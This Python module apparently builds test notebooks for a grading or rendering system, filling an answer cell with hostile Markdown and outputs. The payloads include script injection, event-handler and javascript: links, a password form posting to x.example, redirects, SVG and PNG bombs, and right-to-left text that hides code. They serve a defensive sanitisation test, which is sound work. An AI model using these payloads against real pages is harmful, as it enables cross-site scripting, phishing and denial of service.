"""Answers that try to harm the page they are shown on: a name, and the cells of each."""

import base64
import io
import json
import struct
import zlib

import matplotlib

matplotlib.use("agg")
import matplotlib.pyplot as plt

SCRIPT = "<script>document.title = 'owned'</script>"


def words(source, **more):
    """A Markdown cell."""
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def code(source, *outputs):
    """A code cell."""
    return {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "execution_count": 1,
        "outputs": list(outputs),
    }


def shown(**data):
    """An output, by kind: ``image_png`` stands for ``image/png``."""
    kinds = {name.replace("_", "/", 1): value for name, value in data.items()}
    return {"output_type": "display_data", "data": kinds, "metadata": {}}


def printed(text):
    """What was printed."""
    return {"output_type": "stream", "name": "stdout", "text": text}


def svg(inside, head=""):
    """An SVG."""
    size = 'width="40" height="30"'
    link = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'{head}<svg xmlns="http://www.w3.org/2000/svg" {link} {size}>{inside}</svg>'


def picture(kind="png"):
    """A plot, as a notebook holds it."""
    figure, ax = plt.subplots(figsize=(2, 1.5))
    ax.plot([0, 1, 2], [1, 3, 2], "o-")
    data = io.BytesIO()
    figure.savefig(data, format=kind)
    plt.close(figure)
    return data.getvalue().decode() if kind == "svg" else base64.b64encode(data.getvalue()).decode()


def chunk(name, data):
    """A part of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width, height, *chunks):
    """A PNG that says a size and holds next to nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = b"".join([chunk(b"IHDR", head), *chunks, chunk(b"IDAT", zlib.compress(bytes(4)))])
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")).decode()


def gif(width, height, frames=((1, 1),)):
    """A GIF that says the sizes of its screen and frames."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(3) + b"\xff" * 3
    parts = [b"," + struct.pack("<HHHHB", 0, 0, *size, 0) + b"\2\2D\1\0" for size in frames]
    return base64.b64encode(head + b"".join(parts) + b";").decode()


def webp(width, height):
    """A WebP without loss that says a size; a black pixel if it is 1 × 1."""
    size = (width - 1 | height - 1 << 14).to_bytes(4, "little")
    data = b"VP8L" + struct.pack("<I", 13) + b"/" + size + b"\x07\xd0\xff\xfe\xf7\xbf\xff\x81\0"
    return base64.b64encode(b"RIFF" + struct.pack("<I", 4 + len(data)) + b"WEBP" + data).decode()


def jpeg(width, height, scans=1):
    """A JPEG that says a size."""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return base64.b64encode(
        b"\xff\xd8" + frame + b"\xff\xda\x00\x02" * scans + b"\xff\xd9"
    ).decode()


def attached(name, kind, text):
    """A Markdown cell with a picture."""
    return words(f"![see]({'attachment:' + name})", attachments={name: {kind: text}})


def doubling(times):
    """An SVG in which each group uses the one before it twice."""
    groups = "".join(
        f'<g id="g{k + 1}"><use xlink:href="#g{k}"/><use xlink:href="#g{k}"/></g>'
        for k in range(times)
    )
    return svg(f'<g id="g0"><path d="M0 0h1"/></g>{groups}<use xlink:href="#g{times}"/>')


MARKDOWN = {
    "script": SCRIPT,
    "out of the page": f"</div></section></main></body></html>{SCRIPT}",
    "info string": '```"><script>document.title="owned"</script>\nx\n```',
    "handler": '<img src=x onerror="document.title=1"> <svg/onload=document.title=1>',
    "javascript": "[a](javascript:document.title=1) [b](JaVaScRiPt:x) [c](&#106;avascript:x)",
    "title of a link": '[a](http://x.example "x\\"><script>1</script>")',
    "autolink": '<http://x.example/?q="><script>1</script>>',
    "reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "remote picture": "![x](http://x.example/track.png) ![y](//x.example/y.png)",
    "picture's description": '![" onerror="document.title=1](attachment:none.png)',
    "comment": "<!-- --><script>1</script> <!--[if IE]><script>1</script><![endif]-->",
    "style": "<style>body { display: none }</style> <link rel=stylesheet href=//x.example>",
    "form": '<form action="//x.example"><input name=password><button>Send</button></form>',
    "base": '<base href="//x.example/"><meta http-equiv=refresh content="0;url=//x.example">',
    "table cell": "| a | b |\n|:-:|--:|\n| <script>1</script> | x |",
    "wide table": "|x" * 4000 + "\n" + "|-" * 4000 + "\n" + "a\n" * 1000,
    "formula": r"$\text{<img src=x onerror=document.title=1>}$ $\href{javascript:x}{y}$",
    "formula's style": r"$\style{position:fixed;inset:0}{x}$ $\class{hidden}{x}$ $\color{red}{x}$",
    "formula's entities": r"$\text{&lt;script&gt;}$ $&#60;script&#62;$ $\unicode{x3c}$",
    "deep formula": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "deeper formula": "$$\n" + r"\sqrt{" * 300 + "x" + "}" * 300 + "\n$$",
    "long formula": "$" + "x+" * 9_000 + "x$",
    "broken formulas": r"$\frac{$ $\left( x$ $\end{matrix}$ $}$ $^$ $\begin{align}$",
    "deep quotes": "> " * 5_000 + "x",
    "deep lists": "".join(" " * 2 * k + "- x\n" for k in range(140)),
    "brackets": "[" * 10_000 + "x" + "]" * 10_000,
    "pictures in pictures": "![" * 9_000 + "x",
    "definitions": "[a]: u\n" * 2_800,
    "dollars": "$" * 19_000,
    "right to left": "\u202egnp.exe \u2066x\u2069 \u202bمرحبا",
    "control characters": "a\x00b\x07c\x1b[2Jd\x9be\ufefff",
    "lone surrogate": "\ud800 and \udfff",
    "a million lines": "x\n" * 1_000_000,
}

OUTPUTS = {
    "html output": shown(text_html=f"<table><tr><td>{SCRIPT}x</td></tr></table>{SCRIPT}"),
    "attributes and elements in a table": shown(
        text_html='<table onclick=x><tr><td onmouseover="x" style="position:fixed">1</td>'
        '<td colspan="99999"><img src=//x.example><iframe srcdoc=x>1</iframe></td></tr></table>'
    ),
    "tables in tables": shown(text_html="<table><tr><td>" * 3_000, text_plain="plain"),
    "huge table": shown(
        text_html="<table>" + "<tr><td>1" * 50_000 + "</table>", text_plain="plain"
    ),
    "svg in a table": shown(text_html="<table><tr><td><svg><style><img src=x onerror=x></svg>1"),
    "javascript output": shown(application_javascript="document.title = 1", text_plain="plain"),
    "markdown output": shown(text_markdown=SCRIPT + "[a](javascript:x)"),
    "png out of its attribute": shown(image_png='"><script>document.title=1</script>'),
    "png without end": shown(image_png=base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()),
    "jpeg of many scans": shown(image_jpeg=jpeg(100, 100, scans=5_000)),
    "svg with a document": shown(image_svg=svg("<foreignObject><p>x</p></foreignObject>")),
    "svg with entities": shown(
        image_svg=svg("&lol;", '<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;">]>')
    ),
    "svg in a circle": shown(image_svg=svg('<g id="a"><use xlink:href="#a"/></g>')),
    "svg from elsewhere": shown(image_svg=svg('<image xlink:href="http://x.example/x.png"/>')),
    "svg with a bomb": shown(
        image_svg=svg(f'<image xlink:href="data:image/png;base64,{png(60_000, 60_000)}"/>')
    ),
    "svg in utf-16": shown(image_svg=base64.b64encode(svg(SCRIPT).encode("utf-16")).decode()),
    "svg with handlers": shown(image_svg=svg('<path d="M0 0h9" onload="document.title=1"/>')),
    "printed escapes": printed("\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J" + SCRIPT),
    "printed without end": printed("x" * 9_000_000),
    "progress": printed("\r".join(f"{k} %" for k in range(100_000))),
    "error": {
        "output_type": "error",
        "ename": SCRIPT,
        "evalue": SCRIPT + "x" * 100_000,
        "traceback": [SCRIPT],
    },
    "strange data": shown(image_png=[1, None, {"a": 2}], text_html={"x": 1}),
    "no data": {"output_type": "display_data", "data": None},
}

CASES = {name: [words(text)] for name, text in MARKDOWN.items()}
CASES |= {name: [code("plot()", output)] for name, output in OUTPUTS.items()}
CASES |= {
    "attached html": [attached("a.png", "text/html", SCRIPT)],
    "attached script": [attached("a.svg", "image/svg+xml", svg(SCRIPT))],
    "attached bomb": [attached("a.png", "image/png", png(60_000, 60_000))],
    "attachment's name": [attached('x"onerror="1', "image/png", picture())],
    "strange attachments": [words("![x](attachment:a)", attachments={"a": 5, "b": [1]})],
    "attachments of another kind": [words("![x](attachment:a)", attachments=[1])],
    "inline svg": [
        words(f"![x](data:image/svg+xml;base64,{base64.b64encode(svg(SCRIPT).encode()).decode()})")
    ],
    "inline html": [words("![x](data:text/html;base64,PHNjcmlwdD4=)")],
    "10 000 outputs": [code("loop()", *[printed(f"{k}\n") for k in range(10_000)])],
    "10 000 pictures": [code("loop()", *[shown(image_png=picture())] * 10_000)],
    "10 000 cells": [words(f"cell {k}") for k in range(10_000)],
    "the same picture again": [
        words("![x](attachment:a)" * 900, attachments={"a": {"image/png": picture()}})
    ],
    "large pictures": [
        code("plot()", shown(image_png=png(9, 9, chunk(b"IDAT", bytes(3_000_000)))))
        for _ in range(9)
    ],
    "strange cells": [
        {"cell_type": "raw", "source": SCRIPT},
        {"cell_type": None, "source": SCRIPT, "outputs": "x"},
        {"cell_type": "code", "source": "x", "outputs": [1, None, "x"]},
    ],
    "code of quotes": [code("'''\"\"\"" * 2_500)],
    "code of brackets": [code("f'{" * 6_000)],
    "hidden code": [code("x = 1  # \u202e\u2066 }\u2069\u2066 admin only")],
}


def notebook(cells, handed_out):
    """A submission with these cells in the place of its first written answer."""
    handed = json.loads(handed_out)
    texts = ["".join(cell["source"]) for cell in handed["cells"]]
    place = texts.index("*Write your answer here.*")
    handed["cells"][place : place + 1] = cells
    return json.dumps(handed)
